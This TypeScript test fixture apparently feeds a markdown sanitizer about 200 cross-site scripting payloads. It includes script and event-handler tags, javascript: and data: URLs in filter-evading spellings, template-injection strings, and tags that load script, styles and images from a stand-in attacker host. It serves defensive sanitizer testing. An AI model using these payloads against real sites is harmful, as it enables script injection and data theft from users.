// Texts that try to run something, or to make a reader's browser ask somewhere else. `HOME` stands for a place that must
// never be asked; whatever runs calls `owned`.

const HOME = 'https://attacker.example'
const RUN = 'owned(1)'

/** What a browser runs or loads, if it is let. */
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<script src=${HOME}/x.js></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=${HOME}/pixel.png>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${RUN}></style></mglyph></math>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="${HOME}/x.swf">`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="${HOME}/">`,
  `<link rel=stylesheet href=${HOME}/x.css>`,
  `<style>@import "${HOME}/x.css"; *{background:url(${HOME}/y)}</style>`,
  `<div style="background:url(${HOME}/z)">x</div>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
] as const

/** Addresses that are code, in the spellings that have got past filters. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript:%6fwned(1)`,
  `javascript://${HOME}/%0a${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5vd25lZCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `blob:${HOME}/1`,
  `file:///etc/passwd`,
  `view-source:${HOME}`,
  `filesystem:${HOME}/temporary/x`,
  `//${HOME.slice(8)}/x`,
  `https:${RUN}`,
] as const

/** Ways to bring an element into a text. */
const AROUND_ELEMENT = [
  (text: string) => text,
  (text: string) => `**${text}**`,
  (text: string) => `- ${text}`,
] as const

/** Ways to bring an address into a text. */
const AROUND_ADDRESS = [
  (text: string) => `[x](${text})`,
  (text: string) => `[x](<${text}>)`,
  (text: string) => `![x](${text})`,
  (text: string) => `<${text}>`,
] as const

/** The signs themselves, as attributes, tags and names of what is drawn. */
const ODD = [
  '[x](https://a.example" onmouseover="owned(1))',
  '[x](https://a.example "title" onclick="owned(1)")',
  '[x](https://a.example\u0000javascript:owned(1))',
  '`<img src=x onerror=owned(1)>`',
  '```html\n<script>owned(1)</script>\n```',
  '```"><img src=x onerror=owned(1)>\nx\n```',
  '| <img src=x onerror=owned(1)> |\n|---|\n| <script>owned(1)</script> |',
  '> <svg onload=owned(1)>',
  '@<img src=x onerror=owned(1)>',
  '#<img src=x onerror=owned(1)>',
  ':<img src=x onerror=owned(1)>:',
  ':__proto__: :constructor: :toString:',
  '{{constructor.constructor("owned(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template of theirs would run
  '${owned(1)}',
  '\\<script>owned(1)\\</script>',
  '&lt;script&gt;owned(1)&lt;/script&gt;',
  '[![x](https://attacker.example/p.png)](javascript:owned(1))',
  '[x]: javascript:owned(1)\n\n[x]',
  'https://a.example/"onmouseover="owned(1)',
  'https://a.example/<img src=x onerror=owned(1)>',
  '\u202e<script>owned(1)</script>',
  '<scr\u0000ipt>owned(1)</scr\u0000ipt>',
  '＜script＞owned(1)＜/script＞',
  '"><script>owned(1)</script>',
  "'-owned(1)-'",
  '</textarea><script>owned(1)</script>',
  '</p></div><script>owned(1)</script>',
  '[constructor](https://a.example) [__proto__](https://b.example)',
  `${'<div>'.repeat(200)}<script>owned(1)</script>`,
  `${'**a '.repeat(200)}<img src=x onerror=owned(1)>`,
] as const

/** 200 of them. */
export const MARKUP: readonly string[] = [
  ...ELEMENTS.flatMap((text) => AROUND_ELEMENT.map((put) => put(text))),
  ...ADDRESSES.flatMap((text) => AROUND_ADDRESS.map((put) => put(text))),
  ...ODD,
]

export const NEVER_ASKED = new URL(HOME).hostname
